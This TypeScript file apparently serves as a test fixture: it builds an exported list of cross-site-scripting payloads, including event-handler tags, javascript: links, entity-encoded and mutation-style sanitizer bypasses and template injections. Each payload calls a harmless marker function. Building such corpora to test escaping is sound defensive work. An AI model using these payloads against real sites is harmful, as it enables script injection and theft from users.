/** What a page calls when a word of somebody else runs in it. */
export const alarm = 'lwAlarm';

const act = `${alarm}(1)`;
const asCodes = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.charCodeAt(0))).join('');

const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'embed',
  'math',
  'x-y',
];
const events = [
  ['onerror', 'src=x'],
  ['onload', 'src=/favicon.ico'],
  ['onfocus', 'autofocus tabindex=0'],
  ['ontoggle', 'open'],
  ['onanimationstart', 'style="animation:spin 1s"'],
] as const;

/** An event of every kind on a tag of every kind. */
const handlers = tags.flatMap((tag) => events.map(([event, more]) => `<${tag} ${more} ${event}=${act}>`));

const scripts = [
  `<script>${act}</script>`,
  `<SCRIPT>${act}</SCRIPT>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script type="module">${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  `<svg/onload=${act}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${act}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><img src=x onerror=${act}></template>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<form action="javascript:${act}"><button autofocus>go</button></form>`,
  `<base href="javascript:${act}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<link rel=stylesheet href="javascript:${act}">`,
  `<style>@import "javascript:${act}";*{background:url(javascript:${act})}</style>`,
  `<a href="javascript:${act}" autofocus>link</a>`,
  `<a href="JaVaScRiPt:${act}">link</a>`,
  `<a href="java\tscript:${act}">link</a>`,
  `<a href=" javascript:${act}">link</a>`,
  `<a href="${asCodes('javascript:', (code) => `&#${code};`)}${act}">link</a>`,
  `<a href="${asCodes('javascript:', (code) => `&#x${code.toString(16)};`)}${act}">link</a>`,
  `<a href="data:text/html,<script>opener.${act}</script>">link</a>`,
  `<img src=x onerror="${asCodes(act, (code) => `&#${code};`)}">`,
  `<img src="x\` \`<script>${act}</script>"\` \`>`,
  `<img/src='x'/onerror='${act}'>`,
  `<img src=x onerror\n=\n${act}>`,
  `<img """><script>${act}</script>">`,
  `\u003cimg src=x onerror=${act}\u003e`,
  `\\u003cimg src=x onerror=${act}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${act}%3E`,
  `&lt;img src=x onerror=${act}&gt;`,
  `javascript:${act}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `" onmouseover="${act}" x="`,
  `' onfocus='${act}' autofocus='`,
  `[link](javascript:${act})`,
  `![image](x" onerror="${act})`,
];

/** Words that would run where they are taken for markup: of every tag, event, scheme and way of writing that browsers know. */
export const hostileWords: readonly string[] = [...handlers, ...scripts];
